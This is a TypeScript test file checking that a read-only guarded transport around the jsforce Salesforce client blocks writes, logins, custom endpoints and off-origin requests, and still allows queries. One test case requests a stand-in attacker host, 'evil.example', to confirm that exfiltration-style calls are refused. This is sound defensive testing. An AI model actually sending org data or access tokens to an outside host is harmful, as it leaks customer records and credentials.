import { Connection } from 'jsforce/lib/connection.js';
import { describe, expect, test } from 'vitest';
import { createMeter } from '../../../../src/collector/org/transport/meter.ts';
import { guardedTransport } from '../../../../src/collector/org/transport/transport.ts';
import { thrownBy } from '../emulated.ts';
import { sendJson, serving } from '../small-server.ts';

/** What jsforce can do to an org beside reading it; each must end in the guard, with nothing sent. */
const writes: readonly (readonly [string, (connection: Connection) => Promise<unknown>])[] = [
  ['create', (connection) => connection.create('Account', { Name: 'x' })],
  ['create many', (connection) => connection.create('Account', [{ Name: 'x' }, { Name: 'y' }])],
  ['update', (connection) => connection.update('Account', { Id: '001000000000001', Name: 'x' })],
  ['upsert', (connection) => connection.upsert('Account', { Key__c: '1' }, 'Key__c')],
  ['delete', (connection) => connection.destroy('Account', '001000000000001')],
  ['delete many', (connection) => connection.destroy('Account', ['001000000000001', '001000000000002'])],
  ['log in by SOAP', (connection) => connection.loginBySoap('me', 'secret')],
  ['log out', (connection) => connection.logout()],
  [
    'run a custom endpoint',
    (connection) => connection.request({ method: 'GET', url: '/services/apexrest/x' }),
  ],
  [
    'send to another host',
    (connection) => connection.request({ method: 'GET', url: 'https://evil.example/services/data' }),
  ],
  [
    'stream a write',
    (connection) => connection.request({ method: 'PUT', url: '/services/data/v67.0/x', body: 'a' }),
  ],
];

describe('jsforce on the guarded transport', () => {
  test.each(writes)('cannot %s', async (_, write) => {
    await serving(
      (__, response) => sendJson(response, 200, {}),
      async ({ origin, asked }) => {
        const connection = new Connection({
          instanceUrl: origin,
          loginUrl: origin,
          accessToken: '00D!secret',
          version: '67.0',
        });
        connection._transport = guardedTransport(createMeter(), { origin, timeoutMs: 5_000 });
        connection.oauth2._transport = connection._transport;
        expect(await thrownBy(() => write(connection))).toMatchObject({ kind: 'refused-by-guard' });
        expect(asked).toEqual([]);
      },
    );
  });

  test('can query', async () => {
    await serving(
      (_, response) => sendJson(response, 200, { totalSize: 0, done: true, records: [] }),
      async ({ origin, asked }) => {
        const connection = new Connection({
          instanceUrl: origin,
          accessToken: '00D!secret',
          version: '67.0',
        });
        connection._transport = guardedTransport(createMeter(), { origin, timeoutMs: 5_000 });
        expect(await connection.query('SELECT Id FROM User')).toMatchObject({ totalSize: 0 });
        expect(asked).toMatchObject([{ method: 'GET', authorization: 'Bearer 00D!secret' }]);
      },
    );
  });
});
